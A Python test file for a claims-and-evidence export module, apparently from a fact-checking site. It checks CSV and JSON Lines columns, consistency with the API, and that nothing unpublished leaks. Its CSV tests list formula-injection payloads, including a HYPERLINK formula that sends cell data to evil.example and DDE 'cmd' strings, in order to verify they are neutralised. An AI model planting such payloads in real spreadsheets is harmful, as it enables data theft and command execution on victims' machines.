"""Exported rows: stable columns, nothing that is not public, and the same as pages and API say."""

from __future__ import annotations

import csv as standard_csv
import io
import json
import re
from pathlib import Path

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import example, given
from hypothesis import strategies as st

from sources.operations import update_source
from statements.exports import csv, files, jsonl
from statements.exports.columns import (
    CLAIMS,
    COUNTS,
    DATASETS,
    TOPIC_COUNTS,
    WORKING_CLAIMS,
    Column,
    Dataset,
    Holds,
)
from statements.exports.files import FILES, Counted
from statements.exports.working import working_claim_rows
from statements.models import Claim, Site
from statements.operations import perform, set_commitment, set_status
from tests.api.helpers import SECRET, anonymous, make_secrets, make_world
from tests.factories import (
    make_agreement,
    make_claim,
    make_source,
    make_speaker,
    make_statement,
    make_topic,
    make_user,
)
from tests.public.copies import copy_claim
from tests.public.test_visibility import MATRIX, plant_secrets, walk

ROOT = Path(__file__).resolve().parents[2]
HANDBOOK = (ROOT / "docs" / "exports.md").read_text()
STRESS = Path("shared") / "data" / "stress"

# By hand: what others script against. Append, and never do anything else.
COLUMNS = {
    "claims": (
        "id url state short_text text language kind verdict commitment_status label "
        "rating finding rationale reasons as_of revision revision_kind statement_id "
        "speaker_id speaker speaker_role said said_on said_until occasion place topics "
        "statements sources corrections first_published_at last_published_at "
        "retracted_at checked_by reviewed_by origin imported_from content_sha256 licence "
        "measure measure_name unit comparator value lower upper period period_counts "
        "period_time_zone counted_place counted_by agreement_id agreement axis status "
        "party_id party status_as_of committed_by_id committed_by deliverable due_on"
    ),
    "statements": (
        "id url speaker_id speaker speaker_role text language fidelity said said_on "
        "said_until said_words occasion place claims sources corrections"
    ),
    "speakers": ("id url name kind aliases wikidata_id description roles claims"),
    "sources": (
        "id url address title author publisher_id publisher published_on language kind "
        "directness origin_id snapshots claims"
    ),
    "evidence": (
        "id claim_id revision stance source_id source_title source_address author "
        "publisher published_on directness quote quote_start quote_end note waiver "
        "captured_at sha256 archive_address measure comparator value lower upper period "
        "counted_place counted_by"
    ),
    "corrections": (
        "made_at kind claim_id statement_id url text summary revision_before revision_after"
    ),
    "working-claims": (
        "id state short_text text language kind assignee speaker said topics verdict "
        "commitment_status finding as_of evidence live_verdict revision show_as_open "
        "review_due_on decline_reason origin external_ref created_at first_published_at "
        "last_published_at retracted_at version"
    ),
    "counts": (
        "series name measure counter place period_start period_end lower value upper reported_at "
        "recorded_at source source_url"
    ),
    "topic-counts": (
        "measure measure_name unit counting_rule place series_id series counter includes "
        "granularity period_start period_end value lower upper reported_at source"
    ),
}

APART = (WORKING_CLAIMS, TOPIC_COUNTS, COUNTS)  # in no file of all rows


def lines_of(name):
    """The rows of a JSON Lines file as dicts."""
    return [json.loads(line) for line in content_of(f"{name}.jsonl").splitlines()]


def content_of(name):
    return b"".join(FILES[name].write(Counted())).decode()


def table_of(name):
    """The rows of a CSV file as dicts, as a program reads it that knows its encoding."""
    text = b"".join(FILES[f"{name}.csv"].write(Counted())).decode("utf-8-sig")
    return list(standard_csv.DictReader(io.StringIO(text, newline=""), strict=True))


def read_back(dataset, rows):
    """Writes rows as CSV and reads the cells again, with each apostrophe taken away."""
    text = b"".join(csv.chunks(dataset, [rows])).decode("utf-8-sig")
    cells = list(standard_csv.reader(io.StringIO(text, newline=""), strict=True))
    return [[cell.removeprefix("'") for cell in row] for row in cells[1:]]


TEXTS = Dataset("texts", "A text", (Column("text", "Words"), Column("number", "N", Holds.NUMBER)))


def publish_typed(kind):
    """Publishes a claim with a typed fact of this kind."""
    ada = make_user("ada")
    claim = make_claim("researching", kind=kind, text=f"A {kind}")
    if kind == "status":
        told = {"axis": "agreement_state", "value": "announced", "as_of": "2025-03-25"}
        set_status(claim, by=ada, agreement=make_agreement(), **told)
    else:
        told = {"deliverable": "A chair", "due_on": "2025-04-11"}
        set_commitment(claim, by=ada, committed_by=make_speaker(), **told)
    perform(claim, "submit", by=ada)
    perform(claim, "publish", by=make_user("ben", role="editor"))


# ---- columns --------------------------------------------------------------------------------


def test_columns_keep_their_names_and_places():
    kept = {dataset.name: dataset.names for dataset in (*DATASETS, *APART)}

    assert kept == {name: tuple(names.split()) for name, names in COLUMNS.items()}


@pytest.mark.parametrize("dataset", [*DATASETS, *APART], ids=lambda each: each.name)
def test_the_handbook_says_what_each_column_means(dataset):
    table = "\n".join(
        f"| `{column.name}` | {column.meaning} | {column.holds} | {column.since} |"
        for column in dataset.columns
    )

    assert (
        f"### {dataset.name}\n\n{dataset.row}.\n\n"
        f"| column | meaning | holds | since |\n| --- | --- | --- | --- |\n{table}\n"
    ) in HANDBOOK


@pytest.mark.django_db
def test_each_cell_holds_what_its_column_says():
    publish_typed("status")
    publish_typed("commitment")
    make_secrets(make_world())
    looks = {
        Holds.CODE: r"[A-Za-z0-9_/-]*",
        Holds.ID: r"[0-9a-z-]+",
        Holds.ADDRESS: r"(https?://.*)?",
        Holds.NUMBER: r"-?\d+(\.\d+)?",
        Holds.DAY: r"\d{4}-\d\d-\d\d",
        Holds.EDTF: r"[0-9~/.?-]*",
        Holds.MOMENT: r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{6})?Z",
        Holds.HASH: r"[0-9a-f]{64}",
    }
    lists = {Holds.CODES: Holds.CODE, Holds.IDS: Holds.ID, Holds.HASHES: Holds.HASH}
    seen = set()

    for dataset in DATASETS:
        for row in lines_of(dataset.name):
            assert tuple(row) == dataset.names
            for column in dataset.columns:
                value = row[column.name]
                if value in (None, "", []):
                    continue
                seen.add((dataset.name, column.name))
                holds = lists.get(column.holds, column.holds)
                for part in value if isinstance(value, list) else [value]:
                    assert re.fullmatch(looks.get(holds, ".+"), str(part), re.DOTALL), column

    assert {"status", "axis", "due_on", "deliverable", "commitment_status", "rating"} <= {
        name for of, name in seen if of == "claims"
    }


# ---- CSV ------------------------------------------------------------------------------------

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\u3000\uff1d1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe66cmd",
    "\u207a1",
    "\u22121",
    "\u20131",
    "'=1",
    "''",
]
HARMLESS = [
    "", " ", "1,000 drones", "Ω = 3", "a\nb", "a;=1", '"=1"', "“=1”", "(=1)", "…=1", "ünï",
    "\u05d0=1", "🚀 =1", "123", "2025-03-27", "#REF!", "DDE",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula(text):
    assert csv.cell(text) == f"'{text}"
    assert csv.number_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
    assert csv.cell(text) == text


def test_numbers_of_ours_stay_numbers():
    cells = [csv.number_cell(value) for value in (5, -3, "-1297.5", "1000", 0, None)]

    assert cells == ["5", "-3", "-1297.5", "1000", "0", ""]
    assert csv.number_cell("-1+1") == "'-1+1"
    assert csv.number_cell("\u0661") == "\u0661"  # another script's digit: a text, and no formula


def test_a_list_in_a_cell_can_be_taken_apart_again():
    assert csv.cell(["no_evidence", "outdated"]) == "no_evidence|outdated"
    assert csv.cell(["a|b", "c\\"]) == r"a\|b|c\\"
    assert csv.cell(["=1", "x"]) == "'=1|x"
    assert csv.cell([]) == ""


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
@example(HOSTILE + HARMLESS)
@example(['"', '","', '"\r\n"', "\r", "\n", "\r\n", "a\rb", "\x00", "\x1a", "\x85", "\u2028"])
def test_what_is_written_can_be_read_back_without_loss(texts):
    rows = [(text, number) for number, text in enumerate(texts)]

    assert read_back(TEXTS, rows) == [[text, str(number)] for text, number in rows]


def test_a_table_is_as_rfc_4180_has_it():
    written = b"".join(csv.chunks(TEXTS, [[("a,b", 1)], [('say "so"', None), ("a\nb", -2)]]))

    assert written == '\ufefftext,number\r\n"a,b",1\r\n"say ""so""",\r\n"a\nb",-2\r\n'.encode()
    assert b"".join(csv.chunks(TEXTS, [])) == "\ufefftext,number\r\n".encode()


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
@example(HOSTILE + HARMLESS)
@example(["\x85", "\u2028\u2029", "\r\n", "\\u2028", '"'])
def test_json_lines_change_no_text_and_are_one_line_each(texts):
    rows = [(text, number) for number, text in enumerate(texts)]

    written = b"".join(jsonl.chunks(TEXTS, [rows])).decode()

    told = [json.loads(line) for line in written.splitlines()]
    assert [(line["text"], line["number"]) for line in told] == rows


@pytest.mark.skipif(
    not (ROOT.parent / STRESS).exists(), reason="the collections of hostile strings are not here"
)
def test_hostile_strings_of_others_are_no_formula_either():
    folder = ROOT.parent / STRESS
    texts = [
        *(folder / "csv-injection.txt").read_text().splitlines(),
        *json.loads((folder / "naughty-strings.json").read_text()),
    ]
    cells = [csv.cell(text) for text in texts]

    assert len(texts) > 400
    assert [cell for cell in cells if re.match(r"[\s\u200b\ufeff]*[=+@-]", cell)] == []
    assert read_back(TEXTS, [(text, 1) for text in texts]) == [[text, "1"] for text in texts]


# ---- what is in them ------------------------------------------------------------------------

STATES = {
    (False, False): None,
    (True, True): {"published", "rechecking"},
    (True, False): {"retracted", "checking"},
}


@pytest.mark.django_db
@pytest.mark.parametrize(("way", "asks", "expected"), MATRIX, ids=lambda value: str(value)[-40:])
def test_each_way_of_a_claim(way, asks, expected):
    claim = walk(way, show_as_open=asks, topics=[make_topic()])
    _, is_listed, has_verdict = expected

    rows = lines_of("claims")

    assert [row["id"] for row in rows] == ([claim.public_id] if is_listed else [])
    assert [len(lines_of(name)) for name in ("statements", "speakers")] == [int(is_listed)] * 2
    assert bool(lines_of("evidence")) == has_verdict
    if is_listed:
        assert rows[0]["state"] in STATES[is_listed, has_verdict]
        assert bool(rows[0]["verdict"]) == bool(rows[0]["finding"]) == has_verdict
        assert bool(rows[0]["rationale"]) == bool(rows[0]["content_sha256"]) == has_verdict


@pytest.mark.django_db
def test_nothing_unpublished_is_in_any_file():
    plant_secrets()
    make_secrets(make_world())
    assert Claim.objects.filter(text__contains=SECRET).exists()

    for name in FILES:
        content = content_of(name).lower()
        assert SECRET.lower() not in content, name
        assert "zanzibar" not in content, name
        assert content.count("\n") > (name.endswith(".csv")), name


@pytest.mark.django_db
def test_a_claim_says_what_its_json_says():
    plant_secrets()
    make_secrets(make_world())
    rows = lines_of("claims")
    assert {row["state"] for row in rows} == {"published", "rechecking", "retracted", "checking"}

    for row in rows:
        told = anonymous().get(f"claims/{row['id']}/").json()
        finding = told["finding"] or {}
        main = next((each for each in told["statements"] if each["is_main"]), None)
        same = {name: row[name] for name in told if name in row and name not in DIFFERENT}
        assert same == {name: told[name] for name in same}
        assert row["finding"] == finding.get("finding", "")
        assert row["reasons"] == finding.get("reasons", [])
        assert row["rating"] == finding.get("rating")
        assert row["content_sha256"] == finding.get("content_sha256")
        assert row["checked_by"] == finding.get("author", "")
        assert row["topics"] == [topic["slug"] for topic in told["topics"]]
        assert row["corrections"] == len(told["corrections"])
        assert row["statements"] == len(told["statements"])
        assert row["statement_id"] == told["statement"]
        assert row["speaker"] == (main["speaker"]["name"] if main else "")
        assert row["speaker_role"] == (main["speaker"]["role"] if main else "")


# Names of both that are not the same thing: the file's is a part or a count of the API's.
DIFFERENT = {"finding", "speaker", "topics", "statements", "corrections"}


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "path", "same"),
    [
        ("statements", "statements", ("url", "text", "language", "fidelity", "said", "occasion",
                                      "said_on", "said_until", "said_words", "place")),
        ("speakers", "speakers", ("url", "name", "kind", "aliases", "wikidata_id", "description")),
        ("sources", "sources", ("url", "address", "title", "author", "published_on", "language",
                                "kind", "directness")),
    ],
)  # fmt: skip
def test_every_noun_says_what_its_json_says(name, path, same):
    make_secrets(make_world())

    rows = {row["id"]: row for row in lines_of(name)}

    listed = anonymous().get(f"{path}/?page_size=100").json()["results"]
    assert set(rows) == {row["id"] for row in listed}
    for key, row in rows.items():
        told = anonymous().get(f"{path}/{key}/").json()
        assert {field: row[field] for field in same} == {field: told[field] for field in same}
        if name == "statements":
            assert sorted(row["claims"]) == sorted(claim["id"] for claim in told["claims"])
            assert row["sources"] == [found["source"]["id"] for found in told["appearances"]]
            assert row["corrections"] == len(told["corrections"])
        if name == "sources":
            assert sorted(row["snapshots"]) == sorted(each["sha256"] for each in told["snapshots"])
            assert row["claims"] == len(told["claims"])


@pytest.mark.django_db
def test_evidence_and_corrections_say_what_their_json_says():
    make_secrets(make_world())

    evidence, corrections = lines_of("evidence"), lines_of("corrections")

    told = anonymous().get("evidence/?page_size=100").json()["results"]
    assert {row["id"] for row in evidence} == {row["id"] for row in told}
    for row in evidence:
        one = anonymous().get(f"evidence/{row['id']}/").json()
        assert (row["claim_id"], row["stance"], row["note"]) == (
            one["claim"],
            one["stance"],
            one["note"],
        )
        assert row["quote"] == (one["anchor"] or {}).get("exact", "")
        assert row["sha256"] == (one["snapshot"] or {}).get("sha256")
    log = anonymous().get("corrections/?page_size=100").json()["results"]
    kinds = [row["kind"] for row in corrections]
    assert sorted(kinds) == sorted(["typo", *(row["kind"] for row in log)])
    assert {row["url"] for row in corrections} == {row["url"] for row in log}


@pytest.mark.django_db
def test_csv_and_json_lines_say_the_same():
    make_secrets(make_world())

    for dataset in DATASETS:
        table, lines = table_of(dataset.name), lines_of(dataset.name)
        assert len(table) == len(lines) > 0
        for cells, line in zip(table, lines, strict=True):
            assert {name: cell.removeprefix("'") for name, cell in cells.items()} == {
                name: csv.cell(value if isinstance(value, list) else str(value)).removeprefix("'")
                if value is not None
                else ""
                for name, value in line.items()
            }


@pytest.mark.django_db
def test_a_retraction_leaves_a_notice_and_its_explanation():
    claim = make_claim("retracted")

    (row,), (correction,) = lines_of("claims"), lines_of("corrections")

    assert (row["state"], row["finding"], row["label"]) == ("retracted", "", "")
    assert row["short_text"] == claim.short_text
    assert row["retracted_at"] is not None
    assert (correction["claim_id"], correction["kind"]) == (claim.public_id, "retraction")
    assert correction["summary"] == "The source was withdrawn."


@pytest.mark.django_db
def test_each_row_says_the_licence():
    make_claim("published")
    site = Site.load()
    site.licence_name, site.licence_url = (
        "CC BY 4.0",
        "https://creativecommons.org/licenses/by/4.0/",
    )
    site.save()

    assert [row["licence"] for row in lines_of("claims")] == [site.licence_url]


@pytest.mark.django_db
def test_the_feed_holds_what_the_pages_tell_search_engines(client):
    make_claim("published", code="unproven", statement=make_statement("No kind of"))
    plant_secrets()
    make_secrets(make_world())
    feed = json.loads(content_of("claimreview.jsonld"))
    pages = {}
    for claim in Claim.objects.filter(live_verdict__isnull=False):
        page = client.get(f"/claims/{claim.public_id}/", follow=True).content.decode()
        told = re.search(r'<script type="application/ld\+json">(.*?)</script>', page)[1]
        review = json.loads(told)
        del review["@context"]
        pages[review["url"]] = review

    reviews = {item["item"]["url"]: item["item"] for item in feed["dataFeedElement"]}

    assert len(reviews) == len(feed["dataFeedElement"]) == len(pages) > 4
    for url, review in reviews.items():
        # The organisation is told once, at the head of the feed.
        assert review.pop("author")["@id"] == pages[url].pop("author")["@id"]
        assert review == pages[url]
    assert feed["@type"] == "DataFeed"
    assert feed["dateModified"] == max(item["dateModified"] for item in feed["dataFeedElement"])


@pytest.mark.django_db
@pytest.mark.parametrize("state", ["new", "in_review", "retracted", "taken_down", "declined"])
def test_what_has_no_rating_is_not_in_the_feed(state):
    make_claim(state)
    publish_typed("commitment")

    feed = json.loads(content_of("claimreview.jsonld"))

    assert feed["dataFeedElement"] == []


@pytest.mark.django_db
def test_working_rows_hold_the_draft():
    claim = make_claim("in_review", finding="=cmd|' /C calc'!A0")

    (batch,) = working_claim_rows(Claim.objects.all())
    row = dict(zip(WORKING_CLAIMS.names, batch[0], strict=True))

    assert (row["id"], row["state"], row["assignee"]) == (claim.public_id, "in_review", "ada")
    assert (row["verdict"], row["evidence"], row["live_verdict"]) == ("accurate", 2, None)
    assert row["finding"] == "=cmd|' /C calc'!A0"


# ---- cost -----------------------------------------------------------------------------------

# Per file: the queries of one batch with what ends the walk, the same for 1 and 3 rows.
QUERIES = {
    "claims": 8,
    "statements": 6,
    "speakers": 4,
    "sources": 5,
    "evidence": 2,
    "corrections": 2,
    "claimreview": 8,
}


@pytest.mark.django_db
@pytest.mark.parametrize("name", QUERIES)
def test_a_batch_costs_the_same_queries_whatever_is_in_it(name):
    def count():
        with CaptureQueriesContext(connection) as queries:
            content_of(f"{name}.{'jsonld' if name == 'claimreview' else 'jsonl'}")
        return len(queries)

    make_claim("retracted", statement=make_statement("Withdrawn"))
    claim = make_claim("published", statement=make_statement("One"), topics=[make_topic()])
    cited = claim.evidence.first().source
    update_source(cited, by=make_user("ada"), origin=make_source("The root of it"))
    few = count()
    for number in range(3):
        copy_claim(claim, 1)
        make_claim(
            "reopened", statement=make_statement(f"{number}", speaker=make_speaker(f"{number}"))
        )

    assert (few, count()) == (QUERIES[name], QUERIES[name])


@pytest.mark.django_db
def test_a_long_table_is_read_in_batches_and_nothing_twice(monkeypatch):
    monkeypatch.setattr("statements.exports.walk.BATCH_SIZE", 2)
    claims = [make_claim("published", text=f"Claim {number}") for number in range(5)]
    wanted = Claim.objects.order_by("-pk")

    batches = list(files.claim_rows(wanted))

    assert [len(batch) for batch in batches] == [2, 2, 1]
    assert [row[0] for batch in batches for row in batch] == [
        claim.public_id for claim in reversed(claims)
    ]
    assert [row["id"] for row in lines_of("claims")] == [claim.public_id for claim in claims]


@pytest.mark.django_db
def test_a_claim_retracted_while_a_list_is_read_is_told_as_retracted(monkeypatch):
    monkeypatch.setattr("statements.exports.walk.BATCH_SIZE", 1)
    first, second = make_claim("published"), make_claim("published")
    batches = files.claim_rows(Claim.objects.order_by("pk"))

    next(batches)
    for step, by in (("propose_take_down", "ben"), ("take_down", "cleo")):
        perform(second, step, by=make_user(by, role="editor"), note="The law.")

    assert [row for batch in batches for row in batch] == []
    assert [row["id"] for row in lines_of("claims")] == [first.public_id]
    assert CLAIMS.names[0] == "id"
